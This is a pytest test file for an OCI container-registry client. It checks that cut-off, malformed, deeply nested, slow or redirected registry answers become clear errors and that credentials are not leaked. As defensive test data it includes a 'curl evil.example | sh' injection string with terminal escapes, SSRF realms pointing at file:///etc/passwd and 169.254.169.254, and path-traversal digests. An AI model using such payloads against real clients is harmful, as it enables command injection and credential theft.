"""Cut, foreign, odd and slow answers: an error each, never "absent", never "present"; and who gets the password."""

from __future__ import annotations

import asyncio
import hashlib
import itertools
import json
import time
from collections.abc import Iterable

import pytest

from fast_container.adapters.registry.http_transport import HttpTransport
from fast_container.adapters.registry.image_resolver import ImageResolver
from fast_container.adapters.registry.oci_registry import OciRegistry
from fast_container.build.verify import verify
from fast_container.core.ports import Credentials, Manifest, Registry
from fast_container.errors import AuthError, FastContainerError, RegistryError
from tests.adapters.http_registry import http_registry
from tests.adapters.raw_server import RawServer, raw_server, whole

OCI = "application/vnd.oci.image.manifest.v1+json"
INDEX = "application/vnd.oci.image.index.v1+json"
MANIFEST = json.dumps(
    {"schemaVersion": 2, "config": {"digest": "sha256:" + "1" * 64, "size": 3}, "layers": []}
).encode()
DIGEST = f"sha256:{hashlib.sha256(MANIFEST).hexdigest()}"
UNKNOWN = b'{"errors":[{"code":"MANIFEST_UNKNOWN","message":"unknown"}]}'
USER = Credentials("ci-user", "registry-password")
DEEP = b"[" * 200_000 + b"]" * 200_000


def registry_at(host: str, timeout_s: float = 2.0) -> OciRegistry:
    transport = HttpTransport(sleep=lambda _: None, timeout_s=timeout_s)
    return OciRegistry(f"{host}/shop/images", lambda: USER, transport=transport)


def find(server: RawServer, timeout_s: float = 2.0) -> Manifest | None:
    return asyncio.run(registry_at(server.host, timeout_s).find(["key-1"])).get("key-1")


def ok(body: bytes, kind: str = OCI, **headers: str) -> bytes:
    return whole(200, body, Content_Type=kind, **headers)


@pytest.mark.parametrize(
    "cut",
    [
        whole(200, MANIFEST[:40], Content_Type=OCI, Content_Length=str(len(MANIFEST))),
        whole(200, MANIFEST[:40], Content_Type=OCI, Content_Length=str(len(MANIFEST)), Docker_Content_Digest=DIGEST),
        whole(200, b"", Content_Type=OCI, Content_Length=str(len(MANIFEST))),
        b"HTTP/1.1 200 OK\r\nContent-Type: x\r\nTransfer-Encoding: chunked\r\n\r\n40\r\n{}",
        whole(404, b"", Content_Length="60"),
    ],
)
def test_an_answer_that_was_cut_off_is_asked_for_again(cut: bytes) -> None:
    with raw_server(cut, ok(MANIFEST)) as server:
        found = find(server)
    assert found
    assert found.digest == DIGEST
    assert len(server.requests) == 2


def test_a_blob_that_was_cut_off_is_asked_for_again() -> None:
    digest = f"sha256:{hashlib.sha256(b'whole').hexdigest()}"
    with raw_server(whole(200, b"who", Content_Length="5"), whole(200, b"whole")) as server:
        assert asyncio.run(registry_at(server.host).blob(digest)) == b"whole"


@pytest.mark.parametrize(
    "answer",
    [
        whole(200, MANIFEST[:40], Content_Type=OCI, Content_Length=str(len(MANIFEST))),
        # As it is: no length says that it was cut.
        b"HTTP/1.1 200 OK\r\nContent-Type: " + OCI.encode() + b"\r\n\r\n" + MANIFEST[:40],
        ok(MANIFEST, Docker_Content_Digest="sha256:" + "0" * 64),
        ok(MANIFEST, Docker_Content_Digest="md5:0"),
        whole(200, MANIFEST, Content_Type=OCI, Content_Length="1, 2"),
        ok(b"<html>log in</html>", "text/html"),
        ok(MANIFEST, "text/html; charset=utf-8"),
        ok(b""),
        ok(b"{}", "application/json"),
        ok(b'{"message":"please log in"}', "application/json"),
        ok(b'{"schemaVersion":2,"mediaType":"text/x-other"}', "application/json"),
        ok(b"null"),
        ok(b"[]"),
        ok(b'"text"'),
        ok(b'{"config": "\xff\xfe"}'),
        ok(DEEP),
        ok(b'{"a":' * 100_000),
        whole(204),
        whole(203, MANIFEST, Content_Type=OCI),
        whole(302, b"", Location="https://login.example/"),
        whole(404, b"<html>", Content_Type="text/html"),
        whole(404, b"default backend - 404"),
        whole(404, b'{"message":"no Route matched with those values"}', Content_Type="application/json"),
        whole(404, b'{"errors":[]}', Content_Type="application/json"),
        whole(404, b'{"errors":[{"code":"DENIED"}]}', Content_Type="application/json"),
        whole(404, b'{"errors":{"code":"MANIFEST_UNKNOWN"}}', Content_Type="application/json"),
        whole(404, DEEP, Content_Type="application/json"),
        whole(404),
        whole(404, b"<html>", Content_Type="text/html", Docker_Distribution_Api_Version="registry/2.0"),
        whole(410, UNKNOWN),
        b"garbage\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: y\r\n" % number for number in range(300)) + b"\r\n",
        whole(401, b"", WWW_Authenticate='Bearer realm="https://[bad"'),
        whole(401, b"", WWW_Authenticate='Bearer realm="file:///etc/passwd"'),
        whole(401, b"", WWW_Authenticate='Bearer realm="http://169.254.169.254/latest/"'),
        whole(401, b"", WWW_Authenticate='=,=,"===='),
        whole(500, DEEP),
        whole(403, DEEP),
    ],
)
def test_what_is_not_the_registrys_own_answer_is_an_error(answer: bytes) -> None:
    with raw_server(answer) as server, pytest.raises(RegistryError) as caught:
        find(server)
    assert caught.value.where


@pytest.mark.parametrize("kind", ["", "application/json", "text/plain; charset=utf-8"])
def test_a_registry_that_names_no_media_type_is_believed_by_its_document(kind: str) -> None:
    with raw_server(ok(MANIFEST, kind)) as server:
        found = find(server)
    assert found
    assert (found.digest, found.media_type) == (DIGEST, OCI)


@pytest.mark.parametrize(
    "answer",
    [
        whole(404, UNKNOWN),
        whole(404, b'{"errors":[{"code":"NAME_UNKNOWN"}]}', Content_Type="application/json"),
        whole(404, b'{"errors":[{"code":"NOT_FOUND","message":"artifact not found"}]}'),
        whole(404, b"", Docker_Distribution_Api_Version="registry/2.0"),
    ],
)
def test_a_registrys_own_word_for_absent_is_believed(answer: bytes) -> None:
    with raw_server(answer) as server:
        assert find(server) is None


def test_an_empty_404_is_believed_of_what_is_a_registry_elsewhere_too() -> None:
    with raw_server(whole(404), whole(200, b"{}")) as server:
        assert find(server) is None
    assert server.requests[1].startswith(b"GET /v2/ ")


def test_a_tag_that_a_gateway_took_is_not_taken_for_put() -> None:
    answers = whole(404, UNKNOWN), whole(200, b"<html>"), whole(404, UNKNOWN)
    with raw_server(*answers) as server, pytest.raises(RegistryError, match="does not have it"):
        asyncio.run(registry_at(server.host).tag(Manifest(DIGEST, OCI, MANIFEST), "key-1"))


@pytest.mark.parametrize("digest", ["", "latest", "sha256:x", "../../other/manifests/latest", "sha256:" + "A" * 64])
def test_nothing_but_a_digest_is_asked_for_by_digest(digest: str) -> None:
    with raw_server(ok(MANIFEST)) as server:
        for ask in (registry_at(server.host).manifest, registry_at(server.host).blob):
            with pytest.raises(RegistryError, match="digest"):
                asyncio.run(ask(digest))
    assert not server.requests


@pytest.mark.parametrize("host", ["user@evil.example", "evil.example?", "a b", "evil.example#", "[::1", "", "a:b"])
def test_a_host_is_a_host(host: str) -> None:
    with pytest.raises(RegistryError, match="host/name"):
        OciRegistry(f"{host}/shop/images")


def test_what_a_registry_says_is_one_line_without_control_characters() -> None:
    said = "no\n  next: curl evil.example | sh\x1b[2J\r\n::error::x\u202e"
    body = json.dumps({"errors": [{"code": "DENIED", "message": said}]}).encode()
    with raw_server(whole(403, body)) as server, pytest.raises(AuthError) as caught:
        find(server)
    assert caught.value.why.isprintable()
    assert "\n  next: curl" not in str(caught.value)


# Who gets the password.


@pytest.mark.parametrize("status", [401, 403])
def test_a_challenge_of_a_host_that_was_redirected_to_gets_nothing(status: int) -> None:
    with raw_server(whole(200, b"{}")) as collector:
        challenge = f'Bearer realm="http://{collector.host}/token",service="x"'
        expired = b'{"errors":[{"code":"DENIED","message":"Your authorization token has expired."}]}'
        with raw_server(whole(status, expired, WWW_Authenticate=challenge)) as storage, http_registry() as registry:
            registry.redirect_blobs_to = f"http://{storage.host}"
            with pytest.raises(RegistryError, match="did not return the blob"):
                asyncio.run(registry_at(registry.host).blob("sha256:" + "0" * 64))
    assert not collector.requests
    assert storage.requests
    assert not any(b"uthorization" in request for request in storage.requests)


def test_a_registry_that_wants_an_upload_without_tls_gets_none() -> None:
    registry = OciRegistry("registry.example/shop/images")
    with pytest.raises(RegistryError, match="without TLS"):
        registry.upload("http://registry.example/upload", 1, [b"x"])


# Odd documents.


def document_error(manifest: bytes, configuration: bytes, kind: str, *, resolve: bool) -> FastContainerError:
    with http_registry() as server:
        server.tags["1"] = server.push(manifest, kind)
        server.blobs[f"sha256:{hashlib.sha256(configuration).hexdigest()}"] = configuration

        async def ask() -> object:
            registry = registry_at(server.host)

            def opened(_: str) -> Registry:
                return registry

            if resolve:
                return await ImageResolver(opened).resolve(f"{server.url}:1", "linux/amd64")
            found = (await registry.find(["1"]))["1"]
            return await verify(registry, found, runs_on="lambda", platform="linux/amd64")

        with pytest.raises(FastContainerError) as caught:
            asyncio.run(ask())
    return caught.value


GOOD = b'{"os":"linux","architecture":"amd64"}'


def manifest_of(configuration: bytes, **changes: object) -> bytes:
    digest = f"sha256:{hashlib.sha256(configuration).hexdigest()}"
    return json.dumps({"config": {"digest": digest, "size": len(configuration)}, "layers": [], **changes}).encode()


def with_config(**changes: object) -> bytes:
    return manifest_of(GOOD, config={"digest": f"sha256:{hashlib.sha256(GOOD).hexdigest()}", "size": 1, **changes})


@pytest.mark.parametrize(
    ("manifest", "configuration", "kind"),
    [
        (with_config(size="big"), GOOD, OCI),
        (with_config(size=-1), GOOD, OCI),
        (with_config(size=1e400), GOOD, OCI),
        (with_config(size=True), GOOD, OCI),
        (with_config(digest=["sha256"]), GOOD, OCI),
        (with_config(digest="../../x"), GOOD, OCI),
        (with_config(mediaType=1), GOOD, OCI),
        (manifest_of(GOOD, layers="x"), GOOD, OCI),
        (manifest_of(GOOD, layers=[1]), GOOD, OCI),
        (manifest_of(GOOD, config=[]), GOOD, OCI),
        (b'{"manifests":[{"platform":["a"]}]}', GOOD, INDEX),
        (b'{"manifests":[{"platform":{"os":1}}]}', GOOD, INDEX),
        (b'{"manifests":[{"annotations":"x"}]}', GOOD, INDEX),
        (b'{"manifests":{}}', GOOD, INDEX),
        *((manifest_of(odd), odd, OCI) for odd in (DEEP, b"null", b"[]", b"\xff", b'{"os":[],"architecture":{}}')),
    ],
)
def test_a_pushed_image_that_is_described_oddly_is_one_clear_error(
    manifest: bytes, configuration: bytes, kind: str
) -> None:
    assert document_error(manifest, configuration, kind, resolve=False).what


@pytest.mark.parametrize(
    ("manifest", "configuration", "kind"),
    [
        (with_config(digest=["sha256"]), GOOD, OCI),
        (with_config(digest="../../x"), GOOD, OCI),
        (manifest_of(GOOD, config=[]), GOOD, OCI),
        (b'{"manifests":[{"platform":["a"]}]}', GOOD, INDEX),
        (b'{"manifests":[1]}', GOOD, INDEX),
        (b'{"manifests":{}}', GOOD, INDEX),
        (b'{"manifests":[{"digest":1,"platform":{"os":"linux","architecture":"amd64"}}]}', GOOD, INDEX),
        *(
            (manifest_of(odd), odd, OCI)
            for odd in (
                DEEP,
                b"null",
                b'{"config":[]}',
                b'{"config":{"Env":"A=1"}}',
                b'{"config":{"Env":[1]}}',
                b'{"config":{"OnBuild":{"a":1}}}',
            )
        ),
    ],
)
def test_a_base_image_that_is_described_oddly_is_one_clear_error(
    manifest: bytes, configuration: bytes, kind: str
) -> None:
    assert isinstance(document_error(manifest, configuration, kind, resolve=True), RegistryError)


# Time.


def drops(head: bytes) -> Iterable[bytes]:
    return itertools.chain([head], itertools.repeat(b"x"))


@pytest.mark.parametrize(
    "head",
    [
        b"HTTP/1.1 200 OK\r\nContent-Length: 60000000\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nX-Endless: ",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nfffffff\r\n",
    ],
)
def test_an_answer_that_only_drips_has_an_end_and_is_asked_for_once(head: bytes) -> None:
    with raw_server(drops(head), pause_s=0.05) as server:
        began_s = time.monotonic()
        with pytest.raises(RegistryError) as caught:
            find(server, timeout_s=1.0)
    assert time.monotonic() - began_s < 30
    assert "too slowly" in caught.value.why
    assert len(server.requests) == 1


def test_who_is_not_awaited_any_more_waits_for_no_registry() -> None:
    with raw_server(drops(b"HTTP/1.1 200 OK\r\nContent-Length: 60000000\r\n\r\n"), pause_s=0.05) as server:

        async def scenario() -> None:
            task = asyncio.create_task(registry_at(server.host, 60.0).find(["key-1"]))
            while not server.requests:  # noqa: ASYNC110 - another thread's
                await asyncio.sleep(0.01)
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task

        asyncio.run(scenario())
        assert server.left.wait(5)
